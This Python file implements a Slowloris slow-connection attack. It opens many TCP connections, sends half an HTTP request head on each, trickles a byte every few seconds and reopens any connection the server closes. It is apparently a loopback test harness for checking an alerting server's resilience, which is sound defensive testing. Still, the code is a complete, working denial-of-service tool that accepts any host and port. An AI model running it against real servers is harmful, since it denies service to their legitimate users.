"""A slow-connection attack on a TCP port, as seen in the wild: many connections, each sending half
a request head and then a byte every few seconds, and a new connection for each one the server
closes (at a bounded rate, like the usual tools). Runs in its own thread; loopback only."""

from __future__ import annotations

import selectors
import socket
import threading
import time

HALF_A_HEAD = b"POST /alerts/prometheus HTTP/1.1\r\nHost: warroom\r\nContent-Type: application/json\r\n"


class Slowloris:
    def __init__(self, host: str, port: int, connections: int, *, every: float = 1.0,
                 opens_per_second: float = 200.0) -> None:
        self.host = host
        self.port = port
        self.wanted = connections
        self.every = every
        self.opens_per_second = opens_per_second
        self.opened = 0                  # connections made so far
        self.closed_by_server = 0        # ... that the server closed (refused or cut off)
        self._sockets: dict[socket.socket, float] = {}   # socket -> when it sends next (0: the half head)
        self._selector = selectors.DefaultSelector()
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, name="slowloris", daemon=True)

    @property
    def open(self) -> int:
        return len(self._sockets)

    def start(self) -> "Slowloris":
        self._thread.start()
        return self

    def stop(self) -> None:
        self._stop.set()
        self._thread.join(10)
        for sock in list(self._sockets):
            self._selector.unregister(sock)
            sock.close()
        self._sockets.clear()
        self._selector.close()

    def _run(self) -> None:
        began = time.monotonic()
        while not self._stop.is_set():
            allowed = int((time.monotonic() - began) * self.opens_per_second) + 1
            while len(self._sockets) < self.wanted and self.opened < allowed:
                self._open()
            now = time.monotonic()
            for sock, due in list(self._sockets.items()):
                if now >= due:
                    self._send(sock, HALF_A_HEAD if due == 0.0 else b"X", now)
            for key, _ in self._selector.select(0.05):
                self._read(key.fileobj)  # type: ignore[arg-type]

    def _open(self) -> None:
        sock = socket.socket()
        sock.setblocking(False)
        sock.connect_ex((self.host, self.port))
        self._selector.register(sock, selectors.EVENT_READ)
        self._sockets[sock] = 0.0
        self.opened += 1

    def _send(self, sock: socket.socket, data: bytes, now: float) -> None:
        try:
            sock.send(data)
        except BlockingIOError:
            return  # still connecting: next time
        except OSError:
            self._closed(sock)
            return
        self._sockets[sock] = now + self.every

    def _read(self, sock: socket.socket) -> None:
        try:
            data = sock.recv(4096)
        except BlockingIOError:
            return
        except OSError:
            data = b""
        if not data and sock in self._sockets:
            self._closed(sock)

    def _closed(self, sock: socket.socket) -> None:
        self._selector.unregister(sock)
        sock.close()
        del self._sockets[sock]
        self.closed_by_server += 1
